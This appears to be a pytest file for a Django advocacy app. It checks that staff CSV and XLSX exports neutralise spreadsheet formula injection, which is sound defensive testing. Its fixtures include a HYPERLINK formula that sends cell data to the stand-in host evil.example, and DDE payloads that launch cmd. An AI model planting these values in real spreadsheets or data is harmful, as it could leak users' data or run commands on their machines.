"""Formula injection: a name typed by an Organiser, a token holder or a UA document never runs as a formula
in a staff export; the CSV cell starts with ' and the XLSX cell is a string (no <f> element)."""

import csv
import datetime
import io
import re
import uuid
import zipfile
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from tests.api.helpers import send
from tests.conftest import staff_login
from uadesk.actions.services import action_create_from_document
from uadesk.api.models import ApiToken
from uadesk.appeals.models import Appeal
from uadesk.events.models import Event
from uadesk.petitions.models import Signature
from uadesk.supporters.models import Supporter

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Open the full report")'
# Every start a spreadsheet reads as a formula (or, for TAB and CR, strips before reading one).
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def posted(action, target, *, event=None) -> None:
    Appeal.objects.create(
        submission=uuid.uuid4(), action=action, target=target, channel="post", status="posted",
        subject="s", body="", supporter_name="", event=event, sent_at=timezone.now(),
    )  # fmt: skip


@pytest.fixture
def named(open_action, client, django_user_model):
    """An event named by an Organiser, a target added through the API and one from a UA document, each
    with a name that is a formula; a counted letter to each, so every name is in the report."""
    organiser = django_user_model.objects.create_user("organiser", password="a long staff password")
    for n, name in enumerate(STARTS):
        event = Event.objects.create(
            name=name, organiser=organiser, date=datetime.date(2022, 9, 2), place="Town hall",
            expected_writers=5, languages="en",
        )  # fmt: skip
        posted(open_action, open_action.targets.first(), event=event)
        if name[:1] in "\t\r":
            continue  # a target's name may hold no control character at all (tests/security/test_titles.py)
        token = ApiToken(name=f"CRM {n}", scope_write=True)
        key = token.new_key()
        token.save()
        response = send(client, "POST", f"/api/advocacy_campaigns/{open_action.slug}/targets",
                        {"name": name}, auth=f"Bearer {key}")  # fmt: skip
        assert response.status_code == 201, response.content
        posted(open_action, open_action.targets.get(pk=response.json()["id"]))
    document = {"title": "An imported UA", "kind": "urgent_action", "summary": "s",
                "targets": [{"name": LEAK, "role": "primary"}]}  # fmt: skip
    imported = action_create_from_document(document=document)
    posted(imported, imported.targets.get())
    return open_action


def assert_csv_escaped(text: str, names=STARTS) -> None:
    """Each name is there with a ' before it, never bare; no cell starts a formula."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for name in names:
        assert "'" + name in cells, name
        assert name not in cells, name
    for cell in cells:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
        assert not (cell.startswith("-") and not cell.lstrip("-").isdigit()), cell


def xlsx_string_cells(data: bytes) -> list[str]:
    """The text of every string cell of every sheet, read from the XML; a formula cell fails the test."""
    book = zipfile.ZipFile(io.BytesIO(data))
    shared = [
        "".join(t.text or "" for t in si.iter(NS + "t")).replace("_x000D_", "\r")
        for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(NS + "si")  # noqa: S314
    ]
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets
    texts = []
    for sheet in sheets:
        root = ElementTree.fromstring(book.read(sheet))  # noqa: S314 -- the desk's own file
        assert root.find(f".//{NS}hyperlink") is None
        for cell in root.iter(NS + "c"):
            assert cell.find(NS + "f") is None, f"cell {cell.get('r')} is a formula"
            if cell.get("t") == "s":
                texts.append(shared[int(cell.find(NS + "v").text)])
    return texts


@pytest.mark.parametrize("scope", ["action", "all"])
def test_the_report_exports_keep_every_name_as_text(named, staff_client, scope):
    args = [named.slug] if scope == "action" else []
    url = "reports:export" if scope == "action" else "reports:export_all"
    response = staff_client.get(reverse(url, args=[*args, "csv"]))
    assert response.status_code == 200
    assert_csv_escaped(response.content.decode())
    cells = xlsx_string_cells(staff_client.get(reverse(url, args=[*args, "xlsx"])).content)
    for name in STARTS:
        assert name in cells, name


def test_the_petition_export_escapes_names_and_emails(petition, client, django_user_model):
    for n, name in enumerate(STARTS):
        Signature.objects.create(
            petition=petition, supporter=Supporter.for_email(f"=s{n}@example.org"), name=name, country="FR",
            household_place=1, confirmed_at=timezone.now(),
        )  # fmt: skip
    owner = django_user_model.objects.create_user("owner", password="a long staff password", is_staff=True)
    owner.user_permissions.set(
        Permission.objects.filter(codename__in=["view_signature", "export_signature_emails"])
    )
    staff_login(client, owner)
    response = client.get(f"/staff/petitions/petition/{petition.pk}/export/?emails=1")
    assert response.status_code == 200
    assert_csv_escaped(response.content.decode(), [*STARTS, "=s0@example.org"])


def test_every_export_uses_the_shared_cells():
    """Every CSV or XLSX the desk writes goes through uadesk.formats.sheets: no other writer of either."""
    from pathlib import Path

    import uadesk

    root = Path(uadesk.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(", path.read_text())
    ]
    assert writers == ["formats/sheets.py"]
